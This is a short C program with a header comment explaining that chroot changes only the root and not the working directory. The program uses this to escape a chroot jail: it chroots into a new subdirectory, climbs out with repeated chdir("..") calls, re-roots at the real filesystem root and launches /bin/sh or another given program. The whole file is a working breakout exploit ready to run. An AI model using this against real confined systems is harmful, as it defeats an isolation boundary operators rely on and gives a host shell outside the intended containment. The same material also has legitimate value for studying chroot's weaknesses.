/* breakout [PROGRAM [ARGUMENT …]]: leaves a chroot, and runs PROGRAM (a shell) where it comes out.
 *
 * chroot(2) changes where "/" is, and nothing else: not the working directory. So a process whose working directory lies
 * outside its root walks up with "..", and "/" is no wall, as it is never passed. To get there: chroot once more, into a
 * directory below, without entering it. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char *shell[] = {"/bin/sh", NULL};
	char **program = argc > 1 ? argv + 1 : shell;

	chdir("/");
	mkdir("/deeper", 0755);
	if (chroot("/deeper") != 0) { /* "/" is /deeper now; the working directory is outside */
		perror("chroot");
		return 1;
	}
	rmdir("deeper");
	for (int i = 0; i < 64; i++)
		chdir("..");            /* up to where there is no further up */
	chroot(".");                    /* and that is "/" from now on */
	execv(program[0], program);
	perror(program[0]);
	return 1;
}
